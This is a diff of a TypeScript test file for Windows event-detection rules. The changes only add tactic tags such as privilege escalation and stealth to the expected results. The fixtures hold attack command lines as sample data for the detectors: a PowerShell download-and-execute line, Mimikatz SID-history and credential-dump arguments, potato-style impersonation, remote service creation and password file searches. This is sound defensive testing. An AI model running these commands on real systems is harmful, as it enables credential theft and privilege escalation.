@@ -200,7 +200,7 @@ describe('built-in Windows rules', () => {
       win(10, 'Setup', 'Microsoft-Windows-Servicing', 9, { UpdateName: 'Microsoft-Windows-Subsystem-Linux', PackageIdentifier: 'Microsoft-Windows-Lxss-Optional' }),
     ]);
     expect(h.get('Accessibility Program Replaced (Sysmon 11)')?.level).toBe('high');
-    expect(h.get('Service Created With A Shell Command As Its Program (Sysmon 13)')).toEqual({ level: 'high', tactics: ['execution', 'persistence', 'lateral-movement'] });
+    expect(h.get('Service Created With A Shell Command As Its Program (Sysmon 13)')).toEqual({ level: 'high', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
     expect(h.get('Kernel Driver Service Pointing Outside The Windows Folder (Sysmon 13)')?.level).toBe('medium');
     expect(h.get('Terminal Services Policy Changed By A Command Line Tool (Sysmon 12/13)')?.tactics).toEqual(['lateral-movement', 'collection']);
     expect(h.get('PowerShell BITS Transfer (script block 4104)')?.tactics).toEqual(['persistence', 'stealth']);
@@ -432,7 +432,7 @@ describe('built-in Windows rules', () => {
   it('user account flags that weaken authentication, delegation, never-expiring passwords and account renames; hardening flags, computer accounts and renames by Windows setup are not', () => {
     const uac = (t: number, flags: string, target = 'svc_backup'): string[] => titlesOf(sec(t, 4738, { SubjectUserName: 'admin', TargetUserName: target, UserAccountControl: `\r\n\t\t${flags}` }));
     for (const [t, flag] of [[1, '%%2082'], [2, '%%2091'], [3, '%%2095']] as const) expect(uac(t, flag)).toContain('Authentication Weakened On A User Account');
-    expect(hits([sec(4, 4738, { TargetUserName: 'svc', UserAccountControl: '%%2091' })]).get('Authentication Weakened On A User Account')).toEqual({ level: 'medium', tactics: ['persistence', 'credential-access'] });
+    expect(hits([sec(4, 4738, { TargetUserName: 'svc', UserAccountControl: '%%2091' })]).get('Authentication Weakened On A User Account')).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'credential-access'] });
     expect(uac(5, '%%2089')).toContain('User Account Password Set To Never Expire');
     expect(uac(6, '%%2098')).toContain('Delegation Enabled On A User Account');
     // Clearing a flag (%%2050, %%2057, %%2059), marking an account sensitive (%%2094) and a computer account are none of these.
@@ -464,7 +464,7 @@ describe('built-in Windows rules', () => {
     for (const text of ['"{0} of {1}" -f $i, $n', "$p = 'C:\\' + 'Temp' + '\\' + $name", '[char]65', 'Get-ChildItem | Select-Object -First 1']) expect(titlesOf(ps(10, text)), text).not.toContain(OBF);
 
     const PRIV = 'Sensitive Privilege Used By A Program Outside Windows';
-    expect(hits([sec(20, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Tools\\x\\tool.exe' })]).get(PRIV)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'credential-access'] });
+    expect(hits([sec(20, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Tools\\x\\tool.exe' })]).get(PRIV)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth', 'credential-access'] });
     expect(titlesOf(sec(21, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }))).not.toContain(PRIV);
     expect(titlesOf(sec(22, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeChangeNotifyPrivilege', ProcessName: 'C:\\Tools\\x\\tool.exe' }))).not.toContain(PRIV);
     expect(titlesOf(sec(23, 4673, { SubjectUserName: 'WS01$', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Agent\\agent.exe' }))).not.toContain(PRIV);
@@ -565,13 +565,13 @@ describe('built-in Windows rules', () => {
     const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
     const S32 = 'C:\\Windows\\System32\\';
     const POTATO = 'Potato-Style COM Impersonation Tool Arguments';
-    expect(hits([proc(1, `${S32}cmd.exe`, 'cmd /c C:\\Users\\u\\x.exe -l 7777 -t * -p C:\\Windows\\system32\\notepad.exe -c {F7FD3FD6-9994-452D-8DA7-9A8FD87AEEF4}')]).get(POTATO)).toEqual({ level: 'high', tactics: ['privilege-escalation'] });
+    expect(hits([proc(1, `${S32}cmd.exe`, 'cmd /c C:\\Users\\u\\x.exe -l 7777 -t * -p C:\\Windows\\system32\\notepad.exe -c {F7FD3FD6-9994-452D-8DA7-9A8FD87AEEF4}')]).get(POTATO)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
     expect(titlesOf(proc(2, `${S32}cmd.exe`, 'cmd /c tool.exe -l 80 -p 8080 -c {config}'))).not.toContain(POTATO);
     const NSUDO = 'Program Started As TrustedInstaller Or SYSTEM With All Privileges';
-    expect(hits([proc(3, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:T -P:E cmd"}')]).get(NSUDO)).toEqual({ level: 'medium', tactics: ['privilege-escalation'] });
+    expect(hits([proc(3, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:T -P:E cmd"}')]).get(NSUDO)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
     expect(titlesOf(proc(4, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:C -P:D cmd"}'))).not.toContain(NSUDO);
     const TOKEN = 'Token Manipulation Or Parent Process Spoofing PowerShell Cmdlets';
-    expect(hits([proc(5, PS, "powershell.exe & {IEX (IWR 'https://example.org/Get-System.ps1'); Get-System -Technique Token}")]).get(TOKEN)).toEqual({ level: 'high', tactics: ['privilege-escalation'] });
+    expect(hits([proc(5, PS, "powershell.exe & {IEX (IWR 'https://example.org/Get-System.ps1'); Get-System -Technique Token}")]).get(TOKEN)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
     expect(titlesOf(proc(6, PS, "powershell.exe -c Invoke-PPIDSpoof -Process notepad.exe -ParentId 4242"))).toContain(TOKEN);
     expect(titlesOf(proc(27, PS, "powershell.exe -c Start-ATHProcessUnderSpecificParent -ParentId 4242"))).not.toContain(TOKEN);
     expect(titlesOf(proc(7, PS, 'powershell.exe -c Get-SystemInfo | Out-File x.txt'))).not.toContain(TOKEN);
@@ -677,13 +677,13 @@ describe('built-in Windows rules', () => {
     expect(hits([proc(1, PS, 'powershell.exe & {Import-Module ActiveDirectory; New-ADUser -Name u1; Add-ADGroupMember -Identity "Domain Admins" -Members u1}')]).get(GRP)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
     expect(titlesOf(proc(2, PS, 'powershell.exe -c Get-ADGroupMember -Identity "Domain Admins"'))).not.toContain(GRP);
     const GPO = 'Group Policy Refresh Interval Changed From The Command Line';
-    expect(hits([proc(3, PS, 'powershell.exe & {New-ItemProperty "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\System" -Name GroupPolicyRefreshTimeDC -PropertyType DWord -Value 0 -Force}')]).get(GPO)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'defense-impairment'] });
+    expect(hits([proc(3, PS, 'powershell.exe & {New-ItemProperty "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\System" -Name GroupPolicyRefreshTimeDC -PropertyType DWord -Value 0 -Force}')]).get(GPO)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth', 'defense-impairment'] });
     expect(titlesOf(proc(4, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\System" /v GroupPolicyRefreshTime'))).not.toContain(GPO);
     const URL = 'Internet Shortcut Written From A Command Line';
     expect(hits([proc(5, `${S32}cmd.exe`, 'cmd.exe /c echo [InternetShortcut] > %temp%\\a.url & echo URL=C:\\windows\\system32\\calc.exe >> %temp%\\a.url')]).get(URL)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
     expect(titlesOf(proc(6, `${S32}cmd.exe`, 'cmd.exe /c start %USERPROFILE%\\Favorites\\site.url'))).not.toContain(URL);
     const UNQ = 'Program Written At A Path An Unquoted Service Path Reaches';
-    expect(hits([proc(7, `${S32}cmd.exe`, 'cmd.exe /c copy C:\\Users\\u\\svc.exe "C:\\program.exe"')]).get(UNQ)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
+    expect(hits([proc(7, `${S32}cmd.exe`, 'cmd.exe /c copy C:\\Users\\u\\svc.exe "C:\\program.exe"')]).get(UNQ)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
     expect(titlesOf(proc(8, `${S32}cmd.exe`, 'cmd.exe /c copy C:\\Users\\u\\svc.exe "C:\\Program Files\\Vendor\\svc.exe"'))).not.toContain(UNQ);
     const SPACE = 'User Account Named With A Trailing Space';
     expect(hits([sec(9, 4720, { TargetUserName: 'Administrator ', TargetDomainName: 'SRV01', SubjectUserName: 'alice' })]).get(SPACE)).toEqual({ level: 'medium', tactics: ['persistence', 'stealth'] });
@@ -698,7 +698,7 @@ describe('built-in Windows rules', () => {
     const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
     const UNBACKED = 'LSASS Opened From Code Outside Any Module (Sysmon 10)';
     const trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e|UNKNOWN(000001F2A3B4C5D6)';
-    expect(hits([sysmon(1, 10, { SourceImage: `${S32}wbem\\WmiPrvSE.exe`, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1410', CallTrace: trace })]).get(UNBACKED)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'credential-access'] });
+    expect(hits([sysmon(1, 10, { SourceImage: `${S32}wbem\\WmiPrvSE.exe`, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1410', CallTrace: trace })]).get(UNBACKED)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth', 'credential-access'] });
     expect(titlesOf(sysmon(2, 10, { SourceImage: `${S32}wbem\\WmiPrvSE.exe`, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1000', CallTrace: trace }))).not.toContain(UNBACKED);
     expect(titlesOf(sysmon(3, 10, { SourceImage: `${S32}wbem\\WmiPrvSE.exe`, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1410', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e' }))).not.toContain(UNBACKED);
     const THREAD = 'Remote Thread Created By A Script Host Or Proxy Binary (Sysmon 8)';
@@ -812,7 +812,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(block(31, '$s = [adsisearcher]"(objectCategory=computer)"; $s.FindAll()'))).toContain(AD);
     expect(titlesOf(block(32, 'Get-ChildItem C:\\Logs'))).not.toContain(AD);
     const MIMI = 'Mimikatz Token Or SID History Commands';
-    expect(hits([proc(33, 'C:\\Tools\\m.exe', 'm.exe "privilege::debug" "sid::patch" "sid::add /sid:S-1-5-21-1-2-3-1134 /sam:bob" "exit"')]).get(MIMI)).toEqual({ level: 'high', tactics: ['privilege-escalation'] });
+    expect(hits([proc(33, 'C:\\Tools\\m.exe', 'm.exe "privilege::debug" "sid::patch" "sid::add /sid:S-1-5-21-1-2-3-1134 /sam:bob" "exit"')]).get(MIMI)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
     expect(titlesOf(block(34, 'Invoke-Mimikatz -Command \'"token::elevate"\''))).toContain(`${MIMI} (script block 4104)`);
     expect(titlesOf(proc(35, 'C:\\Tools\\m.exe', 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit'))).not.toContain(MIMI);
     const BIN = 'Service Program Changed From The Command Line';
@@ -846,7 +846,7 @@ describe('built-in Windows rules', () => {
     expect(hits([sysmon(12, 11, { Image: 'C:\\Users\\Public\\x.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\HOW_TO_DECRYPT.txt' })]).get(NOTE)).toEqual({ level: 'medium', tactics: ['impact'] });
     expect(titlesOf(sysmon(13, 11, { Image: 'C:\\Users\\Public\\x.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\notes.txt' }))).not.toContain(NOTE);
     const REMOTE = 'Service Or Scheduled Task Managed On Another Host From The Command Line';
-    expect(hits([proc(14, `${S32}sc.exe`, 'sc \\\\srv2 create upd binPath= "cmd /c C:\\Windows\\Temp\\x.exe"')]).get(REMOTE)).toEqual({ level: 'medium', tactics: ['execution', 'lateral-movement'] });
+    expect(hits([proc(14, `${S32}sc.exe`, 'sc \\\\srv2 create upd binPath= "cmd /c C:\\Windows\\Temp\\x.exe"')]).get(REMOTE)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
     expect(titlesOf(proc(15, `${S32}schtasks.exe`, 'schtasks /create /s srv2 /tn upd /tr C:\\x.exe /sc once /st 10:00'))).toContain(REMOTE);
     expect(titlesOf(proc(16, `${S32}sc.exe`, 'sc \\\\srv2 query upd'))).not.toContain(REMOTE);
     expect(titlesOf(proc(17, `${S32}schtasks.exe`, 'schtasks /query /s srv2'))).not.toContain(REMOTE);
@@ -893,7 +893,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(set(17, 'powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcA'))).toContain(ENC);
     expect(titlesOf(set(18, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\Scripts\\inventory.ps1'))).not.toContain(ENC);
     const TASK = 'Scheduled Task File Written Outside The Task Scheduler (Sysmon 11)';
-    expect(hits([sysmon(19, 11, { Image: 'System', TargetFilename: `${S32}Tasks\\Updater` })]).get(TASK)).toEqual({ level: 'medium', tactics: ['execution', 'persistence'] });
+    expect(hits([sysmon(19, 11, { Image: 'System', TargetFilename: `${S32}Tasks\\Updater` })]).get(TASK)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation'] });
     expect(titlesOf(sysmon(20, 11, { Image: `${S32}svchost.exe`, TargetFilename: `${S32}Tasks\\Updater` }))).not.toContain(TASK);
     const FIND = 'Files Searched For Passwords From The Command Line';
     expect(hits([proc(21, `${S32}findstr.exe`, 'findstr /si password *.xml *.ini *.txt')]).get(FIND)).toEqual({ level: 'low', tactics: ['credential-access'] });
@@ -943,7 +943,7 @@ describe('built-in Windows rules', () => {
     const WS = 'Winsock Catalog Changed (Sysmon 12/13)';
     const cat = (t: number, image: string): ReturnType<typeof makeEvent> =>
       win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries64\\000000000001\\PackedCatalogItem', Details: 'Binary Data' });
-    expect(hits([cat(1, `${S32}rundll32.exe`)]).get(WS)?.tactics).toEqual(['persistence']);
+    expect(hits([cat(1, `${S32}rundll32.exe`)]).get(WS)?.tactics).toEqual(['persistence', 'privilege-escalation']);
     expect(titlesOf(cat(2, 'C:\\Users\\bob\\lsp.exe'))).toContain(WS);
     expect(titlesOf(cat(3, `${S32}svchost.exe`))).not.toContain(WS);
     const dns = (t: number, image: string, name: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryStatus: '0', QueryResults: '-' });
